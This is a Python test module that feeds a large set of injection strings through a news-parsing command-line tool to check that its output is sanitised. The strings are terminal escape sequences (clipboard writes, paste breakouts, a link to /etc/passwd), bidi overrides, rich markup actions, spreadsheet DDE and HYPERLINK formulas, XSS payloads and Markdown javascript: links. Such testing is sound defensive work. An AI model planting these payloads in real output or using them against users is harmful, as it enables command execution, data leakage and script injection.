"""Texts that mean harm where they come out: what steers a terminal, turns text round, or is code to rich, a spreadsheet, a browser, Markdown."""

import contextlib
import json
import re
from pathlib import Path

from click.testing import Result

from tests.running import run

ATTACKS = {
    # --- what steers a terminal
    "red": "\x1b[31mأحمر\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "cursor home": "\x1b[1;1Hدخيل",
    "cursor up": "\x1b[5A\x1b[2Kدخيل",
    "alternate screen": "\x1b[?1049h",
    "hide the cursor": "\x1b[?25l",
    "bracketed paste": "\x1b[?2004l\x1b[201~rm",
    "report the cursor": "\x1b[6n",
    "device attributes": "\x1b[c\x1b[>c",
    "report the title": "\x1b[21t",
    "window title": "\x1b]0;دخيل\x07",
    "window title, ST": "\x1b]2;دخيل\x1b\\",
    "link": "\x1b]8;;http://example.invalid/\x1b\\انقر\x1b]8;;\x1b\\",
    "link, BEL": "\x1b]8;;file:///etc/passwd\x07انقر\x1b]8;;\x07",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "clipboard, read": "\x1b]52;c;?\x07",
    "palette": "\x1b]4;1;?\x07",
    "notification": "\x1b]777;notify;a;b\x07",
    "current folder": "\x1b]7;file://host/tmp\x07",
    "picture": "\x1b]1337;File=inline=1:AAAA\x07",
    "DCS request": '\x1bP$q"p\x1b\\',
    "sixel": "\x1bPq#0;2;0;0;0#0~~@@\x1b\\",
    "tmux passthrough": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "PM": "\x1b^دخيل\x1b\\",
    "SOS": "\x1bXدخيل\x1b\\",
    "reset": "\x1bc",
    "other charset": "\x1b(0lqqk\x1b(B",
    "DECALN": "\x1b#8",
    "ESC alone": "قبل\x1bبعد",
    "C1 CSI": "\x9b31mأحمر",
    "C1 OSC": "\x9d52;c;eA==\x9c",
    "C1 DCS": "\x90q\x9c",
    "C1 APC": "\x9fGf=1\x9c",
    "C1 reverse index": "\x8dدخيل",
    "backspaces": "سري\x08\x08\x08\x08علني",
    "DEL": "قبل\x7fبعد",
    "NUL": "قبل\x00بعد",
    "BEL": "\x07\x07",
    "shift out": "\x0eدخيل\x0f",
    "ENQ": "\x05",
    "vertical tab": "قبل\x0bبعد",
    "file separator": "قبل\x1c\x1d\x1e\x1fبعد",
    # --- what turns text round
    "RLO": "\u202eمقلوب abc\u202c",
    "LRO": "\u202dمقلوب abc",
    "RLO without an end": "\u202e" * 9 + "2015",
    "isolates without an end": "\u2067\u2066\u2068 abc",
    "PDI too many": "\u2069\u2069\u202c\u202c abc",
    "embeddings": "\u202a\u202b abc",
    "RLO in a word": "admin\u202e⁦ // تحقق⁩ ⁦",
    # --- rich
    "rich style": "[bold red]عاجل[/bold red]",
    "rich link": "[link=http://example.invalid]انقر[/link]",
    "rich end": "[/foo]",
    "rich end of all": "[/]",
    "rich escape": "\\[bold]عاجل\\",
    "rich action": "[@click=app.quit()]انقر[/]",
    "rich emoji": ":bomb: :x:",
    # --- spreadsheets
    "formula": "=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"انقر")',
    "import": '=IMPORTXML("http://example.invalid","//a")',
    "tab, formula": "\t=1+1",
    "space, formula": " =1+1",
    "no-break space, formula": "\xa0=1+1",
    "mark, formula": "\u200f=1+1",
    "BOM, formula": "\ufeff=1+1",
    "full-width formula": "＝1+1",
    "quote, formula": '"=1+1',
    "apostrophe": "'=1+1",
    "separators": 'أ","ب";\t"ج',
    # --- browsers
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "end of script, spaces": "</ScRiPt \t><img src=x onerror=alert(1)>",
    "comment": "<!--<script>",
    "end of comment": "--> --!> ]]>",
    "style": "</style><style>*{display:none}</style>",
    "end of title": "</title><script>alert(1)</script>",
    "picture with an error": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute, single": "' onfocus='alert(1)' autofocus='",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entity": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "double entity": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "base": "<base href=http://example.invalid/>",
    "meta": "<meta http-equiv=refresh content='0;http://example.invalid/'>",
    "template": "{{constructor.constructor('alert(1)')()}}",
    "line separators": "أ\u2028alert(1)\u2029",
    # --- Markdown
    "link in Markdown": "[انقر](javascript:alert(1))",
    "link in Markdown, spaces": "[انقر]( java&Tab;script:alert(1) )",
    "link with a reference": "[انقر][1]",
    "reference": "[1]: javascript:alert(1)",
    "picture in Markdown": "![صورة](http://example.invalid/x.png)",
    "address": "<javascript:alert(1)>",
    "bare address": "http://example.invalid/x",
    "backticks": "```\nشيفرة".replace("\n", " "),
    "backtick": "`شيفرة",
    "heading": "# دخيل",
    "list": "- بند",
    "quote": "> اقتباس",
    "rule": "*** ***",
    "table": "| أ | ب |",
    "HTML in Markdown": "<b>عريض</b>",
    "emphasis": "**عريض** _مائل_ ~~محذوف~~",
}
# The same in a line of text: what ends a line there is another line.
LINES = {name: text for name, text in ATTACKS.items() if not re.search("[\u2028\u2029]", text)}

# So much plain text around an attack that its control characters do not make the whole binary data.
PLAIN = "أغلقت بلدية السماق السوق القديم عصرا ريثما يعاين المهندسون سقفه.\n" * 16

STEERING = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202d\u202e\ud800-\udfff]")
TURNING = re.compile(r"[\u202a-\u202e\u2066-\u2069]")


def article(attack: str) -> str:
    """A text with the attack in its title, a caption, a marker, a label's text, two paragraphs and the credit."""
    head = "عنوان\n" if attack.startswith("<") else ""  # else it would be read as a page
    return (
        f"{head}{attack}\nصورة {attack}\n\nاندلع حريق في السوق صباحا. {attack}.\n"
        f"{PLAIN}\nتحديث (15:36 ت غ)\n\n{attack}\n\nأخمد الحريق.\n\nتحديث 16:20 ت غ: {attack} انتهى.\n\nالمصدر: {attack}\n"
    )


def record(attack: str) -> str:
    """A JSON line with the attack in every field that is shown."""
    fields = {"url": attack, "title": attack, "text": article(attack), "date": attack}
    return json.dumps(fields, ensure_ascii=False) + "\n"


def write(folder: Path) -> None:
    """One file an attack, named by the attack as far as a file system lets it, and one file of records."""
    for attack in LINES.values():
        name = attack.replace("/", "∕").replace("\0", "")[:60] or "x"
        (folder / f"{name}.txt").write_text(article(attack), encoding="utf-8", newline="")
    (folder / "records.jsonl").write_text("".join(map(record, ATTACKS.values())), encoding="utf-8")


def parse(folder: Path, *options: str, files: list[str]) -> str:
    """What `newsline parse` prints into a pipe."""
    with contextlib.chdir(folder):
        done: Result = run("parse", "--quiet", "--date", "2025-10-04", *options, "--", *files)
    assert (done.exit_code, done.stderr) == (0, "")
    return done.stdout
